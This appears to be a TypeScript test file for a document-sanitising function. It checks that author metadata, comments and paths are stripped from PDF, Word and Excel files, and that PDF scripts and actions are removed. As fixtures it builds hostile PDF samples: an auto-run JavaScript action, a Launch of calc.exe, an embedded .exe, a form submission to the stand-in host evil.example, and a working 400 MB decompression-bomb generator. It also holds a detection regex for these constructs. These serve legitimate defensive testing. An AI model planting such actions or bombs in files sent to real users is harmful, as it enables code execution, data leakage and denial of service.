import { PDFDocument, PDFName, PDFString } from '@cantoo/pdf-lib'
import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate'
import { deflateSync } from 'node:zlib'
import sharp from 'sharp'
import { cleanDocument } from '@/lib/platform/documents/document-tasks'
import { objectsExceed } from '@/lib/platform/documents/pdf-objects'

const SURNAME = 'Shchukina'
const DOCX = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'
const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'

test('a PDF keeps its pages and forgets who made it', async () => {
  const source = await PDFDocument.create()
  const page = source.addPage([300, 200])
  page.drawText('Estimate')
  page.drawImage(await source.embedJpg(await photo()))
  source.setAuthor(SURNAME)
  source.setCreator(SURNAME)
  const about = { Type: 'Metadata', Subtype: 'XML' }
  const xmp = source.context.register(source.context.stream(`<dc:creator>${SURNAME}</dc:creator>`, about))
  source.catalog.set(PDFName.of('Metadata'), xmp)
  page.node.set(PDFName.of('PieceInfo'), source.context.obj({ Editor: SURNAME }))
  const note = { Type: 'Annot', Subtype: 'Text', Rect: [0, 0, 20, 20], T: SURNAME }
  page.node.set(PDFName.of('Annots'), source.context.obj([note]))
  const written = Buffer.from(await source.save({ useObjectStreams: false }))
  expect(written.includes(SURNAME)).toBe(true)

  const cleaned = await cleanDocument(written, 'application/pdf')
  const read = await PDFDocument.load(cleaned, { updateMetadata: false })
  expect([read.getPageCount(), read.getAuthor(), read.getCreator()]).toEqual([1, undefined, undefined])
  const plain = Buffer.from(await read.save({ useObjectStreams: false }))
  expect(plain.includes(SURNAME)).toBe(false)
})

test('a PDF keeps its links and loses all that acts', async () => {
  const source = await PDFDocument.create()
  const page = source.addPage([300, 200])
  const { context } = source
  const action = (fields: object) => context.register(context.obj({ Type: 'Action', ...fields } as never))
  const script = action({ S: 'JavaScript', JS: PDFString.of('app.alert(1)') })
  const link = (target: unknown) => context.obj({ Subtype: 'Link', Rect: [0, 0, 9, 9], A: target } as never)
  source.catalog.set(PDFName.of('OpenAction'), script)
  source.catalog.set(PDFName.of('AA'), context.obj({ WC: script }))
  page.node.set(PDFName.of('AA'), context.obj({ O: script }))
  source.addJavaScript('start', 'app.alert(2)')
  await source.attach(Buffer.from('MZ secret'), 'secret.exe', { mimeType: 'application/octet-stream' })
  const links = [
    link(context.obj({ S: 'Launch', F: PDFString.of('calc.exe') })),
    link(action({ S: 'SubmitForm', F: PDFString.of('https://evil.example') })),
    link(context.obj({ S: 'URI', URI: PDFString.of('https://samursk.example') })),
  ]
  page.node.set(PDFName.of('Annots'), context.obj(links))
  const acting = /OpenAction|\/AA|JavaScript|Launch|SubmitForm|EmbeddedFiles|app\.alert|calc\.exe|evil\.example/
  const written = Buffer.from(await source.save({ useObjectStreams: false }))
  expect(written.toString('latin1')).toMatch(acting)

  const cleaned = await PDFDocument.load(await cleanDocument(written, 'application/pdf'), { updateMetadata: false })
  const plain = Buffer.from(await cleaned.save({ useObjectStreams: false })).toString('latin1')
  expect(plain).not.toMatch(acting)
  expect(plain).toContain('https://samursk.example')
})

test('a document of Word keeps its words and forgets who wrote, changed and noted', async () => {
  const source = zipped({
    'word/document.xml': '<w:t>Смета</w:t>',
    'docProps/core.xml': `<cp:coreProperties><dc:creator>${SURNAME}</dc:creator></cp:coreProperties>`,
    'docProps/app.xml': `<Properties><Company>${SURNAME}</Company></Properties>`,
    'word/comments.xml': `<w:comment w:id="0" w:author="${SURNAME}" w:initials="Щ">Дорого</w:comment>`,
    'word/_rels/settings.xml.rels': `<Relationship Target="file:///C:\\Users\\${SURNAME}\\act.dotx"/>`,
    'word/media/image1.jpeg': await photo(),
  })
  const text = extractWords(await cleanDocument(source, DOCX))
  expect(text).not.toContain(SURNAME)
  for (const words of ['Смета', 'w:author="" w:initials=""', 'Дорого']) expect(text).toContain(words)
})

test('a workbook forgets who notes in it, who closed it and the folder it lay in', async () => {
  const source = zipped({
    'xl/workbook.xml': `<fileSharing readOnlyRecommended="1" userName="${SURNAME}"/><x15ac:absPath xmlns:x15ac="x" url="C:\\Users\\${SURNAME}\\"/><sheet name="Смета"/>`,
    'xl/comments1.xml': `<author>${SURNAME}</author>`,
    'xl/persons/person.xml': `<person displayName="${SURNAME}" userId="${SURNAME}"/>`,
  })
  const text = extractWords(await cleanDocument(source, XLSX))
  expect(text).not.toContain(SURNAME)
  expect(text).toContain('<fileSharing readOnlyRecommended="1" userName=""/>')
  expect(text).toContain('<sheet name="Смета"/>')
})

test('what cannot be opened is told', async () => {
  await expect(cleanDocument(Buffer.from('%PDF-1.7 nothing'), 'application/pdf')).rejects.toThrow()
  await expect(cleanDocument(Buffer.from('PK nothing'), DOCX)).rejects.toThrow()
})

test('a small PDF that unpacks to more than there is room for is not cleaned, and what comes after it is', async () => {
  const bomb = pdfBomb()
  expect(bomb.length).toBeLessThan(1_000_000)
  expect(await objectsExceed(bomb, 1024 * 1024)).toBe(true)
  await expect(cleanDocument(bomb, 'application/pdf')).rejects.toThrow('over the limit')

  const source = await PDFDocument.create()
  source.addPage([300, 200])
  const written = Buffer.from(await source.save())
  expect(await objectsExceed(written, 1024 * 1024)).toBe(false)
  const cleaned = await cleanDocument(written, 'application/pdf')
  expect((await PDFDocument.load(cleaned)).getPageCount()).toBe(1)
})

test('others get their turn while a PDF of very many streams is looked through', async () => {
  const stream = Buffer.concat([Buffer.from('/ObjStm>>stream\n'), deflateSync(Buffer.alloc(10)), Buffer.from('\n')])
  const names = Buffer.from('/ObjStm '.repeat(1_000))
  let turns = 0
  const timer = setInterval(() => (turns += 1), 0)
  expect(await objectsExceed(Buffer.concat([...Array<Buffer>(2_000).fill(stream), names]), 64 * 1024 * 1024)).toBe(
    false,
  )
  clearInterval(timer)
  expect(turns).toBeGreaterThan(0)
})

/** Makes a PDF with 400 MB of blanks among its objects. */
function pdfBomb(): Buffer {
  const beginning = '10 0 '
  const packed = deflateSync(Buffer.alloc(400 * 1024 * 1024, beginning.padEnd(1024)), { level: 9 })
  const objects = [
    '<</Type/Catalog/Pages 2 0 R>>',
    '<</Type/Pages/Kids[3 0 R]/Count 1>>',
    '<</Type/Page/Parent 2 0 R/MediaBox[0 0 100 100]>>',
    `<</Type/ObjStm/N 1/First 5/Length ${packed.length}/Filter/FlateDecode>>\nstream\n${packed.toString('latin1')}\nendstream`,
  ].map((object, index) => `${index + 1} 0 obj\n${object}\nendobj\n`)
  return Buffer.from(`%PDF-1.5\n${objects.join('')}trailer\n<</Root 1 0 R/Size 11>>\nstartxref\n0\n%%EOF`, 'latin1')
}

function photo(): Promise<Buffer> {
  const plain = sharp({ create: { width: 20, height: 20, channels: 3, background: '#9ab' } })
  return plain
    .withExif({ IFD0: { Artist: SURNAME } })
    .jpeg()
    .toBuffer()
}

function zipped(parts: Record<string, string | Uint8Array>): Buffer {
  const entries = Object.entries(parts).map(([name, part]) => [name, typeof part === 'string' ? strToU8(part) : part])
  return Buffer.from(zipSync(Object.fromEntries(entries) as Record<string, Uint8Array>))
}

function extractWords(archive: Buffer): string {
  return Object.values(unzipSync(archive))
    .map((part) => strFromU8(part))
    .join('\n')
}
